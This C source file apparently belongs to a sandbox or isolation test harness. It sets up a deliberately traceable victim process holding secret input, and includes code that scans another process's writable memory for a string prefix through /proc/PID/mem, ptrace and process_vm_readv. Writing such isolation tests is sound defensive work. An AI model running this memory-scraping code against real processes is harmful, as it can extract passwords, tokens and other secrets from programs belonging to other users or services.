/* Attacks on other processes of the host. */
#include "attack.h"

/* victim FILE: keeps what it reads from stdin in its memory and FILE open as descriptor 9. */
int victim(char **argv) {
  static char memory[256];
  if (read(0, memory, sizeof memory - 1) <= 0) return fail("stdin");
  prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY, 0, 0, 0);
  int fd = open(argv[0], O_RDONLY);
  if (fd < 0 || dup2(fd, 9) != 9) return fail("file");
  unlink(argv[0]);
  write(1, "ready\n", 6);
  for (;;) pause();
}

static int print_found(const char *data, size_t size, const char *prefix) {
  const char *at = memmem(data, size, prefix, strlen(prefix));
  if (!at) return 0;
  size_t left = size - (at - data), length = 0;
  while (length < left && length < 120 && at[length] > ' ' && at[length] < 127) length++;
  printf("%.*s\n", (int)length, at);
  fflush(stdout);
  return 1;
}

/* mem PID PREFIX: through /proc/PID/mem. ptrace PID PREFIX: by attaching. vmread PID PREFIX: process_vm_readv. */
int memory_of(const char *how, char **argv) {
  pid_t pid = atoi(argv[0]);
  char path[64], line[512];
  if (!strcmp(how, "ptrace")) {
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0) return fail("attach");
    waitpid(pid, 0, __WALL);
  }
  snprintf(path, sizeof path, "/proc/%d/maps", pid);
  FILE *maps = fopen(path, "r");
  if (!maps) return fail("maps");
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int mem = open(path, O_RDONLY), found = 0;
  while (!found && fgets(line, sizeof line, maps)) {
    unsigned long from, to;
    char rights[8];
    if (sscanf(line, "%lx-%lx %7s", &from, &to, rights) != 3 || strncmp(rights, "rw", 2)) continue;
    size_t size = to - from > 8 << 20 ? 8 << 20 : to - from;
    char *copy = calloc(1, size);
    if (!strcmp(how, "mem")) found = pread(mem, copy, size, from) > 0 && print_found(copy, size, argv[1]);
    else if (!strcmp(how, "vmread")) {
      struct iovec mine = {copy, size}, theirs = {(void *)from, size};
      found = process_vm_readv(pid, &mine, 1, &theirs, 1, 0) > 0 && print_found(copy, size, argv[1]);
    } else {
      for (size_t i = 0; i + sizeof(long) <= size; i += sizeof(long)) {
        long word = ptrace(PTRACE_PEEKDATA, pid, from + i, 0);
        memcpy(copy + i, &word, sizeof word);
      }
      found = print_found(copy, size, argv[1]);
    }
    free(copy);
  }
  if (!strcmp(how, "ptrace")) ptrace(PTRACE_DETACH, pid, 0, 0);
  return !found;
}
